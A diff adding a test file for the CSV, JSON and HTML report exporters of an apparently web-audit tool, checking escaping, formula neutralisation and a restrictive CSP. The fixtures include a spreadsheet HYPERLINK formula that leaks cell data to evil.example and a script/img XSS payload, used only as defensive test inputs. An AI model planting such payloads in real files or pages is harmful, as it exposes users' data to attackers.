@@ -1,0 +1,108 @@
+import { parse } from 'csv-parse/sync';
+import { csvReport, neutraliseFormula } from '../../../src/reports/csv.ts';
+import { DETAILED_FINDINGS, htmlReport } from '../../../src/reports/html.ts';
+import { jsonReport } from '../../../src/reports/json.ts';
+import type { Finding } from '../../../src/reports/model.ts';
+import { collect, context, finding, stream } from './fixtures.ts';
+
+const nasty = finding({
+  title: '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
+  description: 'line one, with a comma\nline two with "quotes"\r\nand a CRLF',
+  evidence: { value: '+SUM(1,2)', note: '@cmd' },
+  affected_assets: [
+    { type: 'url', value: 'https://example.com/a,b' },
+    { type: 'url', value: 'https://example.com/"q"' },
+  ],
+  recommended_fix: { summary: '-1 is not a formula here', steps: ['step, one', 'step "two"'] },
+});
+const plain = finding({ check_id: 'seo.title_missing', domain: 'seo', severity: 'medium', title: 'Page has no title', priority_score: 40 });
+
+describe('CSV', () => {
+  it('is RFC 4180: a header, CRLF records, quoted commas, quotes and line breaks, parsed back to the same values', async () => {
+    const text = await collect(csvReport(stream([nasty, plain])));
+    expect(text.endsWith('\r\n')).toBe(true);
+    const rows: Record<string, string>[] = parse(text, { columns: true, record_delimiter: '\r\n' });
+    expect(rows).toHaveLength(2);
+    const [first, second] = rows as [Record<string, string>, Record<string, string>];
+    expect(first.id).toBe(nasty.id);
+    expect(first.description).toBe(nasty.description);
+    expect(first.urls).toBe('https://example.com/a,b\nhttps://example.com/"q"');
+    expect(JSON.parse(first.evidence!)).toEqual({ value: '+SUM(1,2)', note: '@cmd' });
+    expect(first.recommended_fix).toBe("'-1 is not a formula here\n1. step, one\n2. step \"two\"");
+    expect(first.priority_score).toBe('80');
+    expect(second).toMatchObject({ id: plain.id, severity: 'medium', check_id: 'seo.title_missing', title: 'Page has no title' });
+  });
+
+  it('neutralises cells that a spreadsheet would run as a formula', async () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
+    expect(neutraliseFormula('a=1')).toBe('a=1');
+    const [row] = parse(await collect(csvReport(stream([nasty]))), { columns: true }) as Record<string, string>[];
+    expect(row!.title).toBe(`'${nasty.title}`);
+  });
+
+  it("uses the check's own fix when the AI wrote none", async () => {
+    const [row] = parse(await collect(csvReport(stream([plain]))), { columns: true }) as Record<string, string>[];
+    expect(row!.recommended_fix).toMatch(/^Give the page a unique, descriptive <title>\.\n1\. /);
+  });
+
+  it('has the header alone when there are no findings', async () => {
+    const rows = parse(await collect(csvReport(stream([]))), { columns: true });
+    expect(rows).toEqual([]);
+  });
+});
+
+describe('JSON', () => {
+  it("holds the findings in the API's shape, in the given order, and the scan summary", async () => {
+    const doc = JSON.parse(await collect(jsonReport(context([nasty, plain]), stream([nasty, plain]))));
+    expect(doc.findings.map((f: { id: string }) => f.id)).toEqual([nasty.id, plain.id]);
+    expect(doc.findings[0]).toMatchObject({ id: nasty.id, priority: { score: 80 }, inserted_at: '2025-06-10T10:00:00.000Z', recommended_fix: nasty.recommended_fix });
+    expect(doc.summary).toMatchObject({ health_score: 72, open_findings: 2, verification_pass_rate: 0.84, regression_rate: 0.12, findings_in_report: 2 });
+    expect(doc.summary.latest_scan.summary.summary).toBe('A few findings.');
+    expect(doc.scan_runs).toHaveLength(1);
+    expect(doc.report.id).toBe(context([]).report.id);
+  });
+
+  it('is valid JSON with no findings', async () => {
+    expect(JSON.parse(await collect(jsonReport(context([]), stream([])))).findings).toEqual([]);
+  });
+});
+
+describe('HTML', () => {
+  const ofSeverity = (all: Finding[]) => (severity: string) => stream(all.filter((f) => f.severity === severity));
+
+  it('is one self-contained page: no script, no external asset, a CSP that forbids fetching', async () => {
+    const evil = finding({ title: '<script>alert(1)</script><img src="https://evil.example/x.png">', severity: 'critical' });
+    const html = await collect(htmlReport(context([evil, plain]), ofSeverity([evil, plain])));
+    expect(html).toMatch(/^<!doctype html>/);
+    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:"`);
+    expect(html).not.toMatch(/<(script|img|link|iframe|object|embed|base)\b/i);
+    expect(html).not.toMatch(/<[^>]+\s(src|srcset|background)=/i);
+    expect(html).not.toMatch(/@import|url\(/i);
+    expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
+  });
+
+  it('has the summary, the health score, and the findings grouped by severity with evidence and fixes', async () => {
+    const low = finding({ severity: 'low', title: 'Low one', priority_score: 10 });
+    const critical = finding({ severity: 'critical', title: 'Critical one', priority_score: 95 });
+    const html = await collect(htmlReport(context([low, plain, critical]), ofSeverity([low, plain, critical])));
+    expect(html).toMatch(/<b>72<\/b><span>health score<\/span>/);
+    const order = ['id="critical"', 'Critical one', 'id="medium"', 'Page has no title', 'id="low"', 'Low one'].map((s) => html.indexOf(s));
+    expect(order.every((i, n) => i > 0 && (n === 0 || i > order[n - 1]!))).toBe(true);
+    expect(html).not.toContain('id="high"');
+    expect(html).toContain('<dt>header</dt><dd>strict-transport-security</dd>');
+    expect(html).toContain('Give the page a unique, descriptive &#60;title&#62;.'); // seo.title_missing's own fix
+    expect(html).toContain('<a href="https://example.com/">https://example.com/</a>');
+  });
+
+  it('shows the first findings in full and the rest one line each', async () => {
+    const many = Array.from({ length: DETAILED_FINDINGS + 3 }, (_, i) => finding({ severity: 'high', title: `Finding ${i}`, priority_score: 99 }));
+    const html = await collect(htmlReport(context(many), ofSeverity(many)));
+    expect(html.match(/<tr><td class="n">/g)).toHaveLength(DETAILED_FINDINGS);
+    expect(html).toContain('3 more high findings, one line each');
+    expect(html).toMatch(/\n\s+253\s+99  security\.hsts_missing\s+Finding 252\s+https:\/\/example\.com\/\n/);
+  });
+
+  it('says so when there is nothing to fix', async () => {
+    expect(await collect(htmlReport(context([]), ofSeverity([])))).toContain('No findings');
+  });
+});
